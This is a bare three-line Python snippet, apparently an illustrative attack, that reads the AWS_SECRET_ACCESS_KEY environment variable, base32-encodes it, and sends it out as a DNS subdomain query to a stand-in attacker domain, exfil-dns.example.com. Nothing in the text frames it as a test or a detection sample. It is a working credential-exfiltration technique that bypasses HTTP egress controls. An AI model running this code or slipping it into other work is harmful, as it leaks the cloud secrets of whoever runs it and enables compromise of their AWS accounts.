import dns.resolver, os, base64
data = base64.b32encode(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()).decode().strip("=")
dns.resolver.resolve(data[:60] + ".x.exfil-dns.example.com", "A")
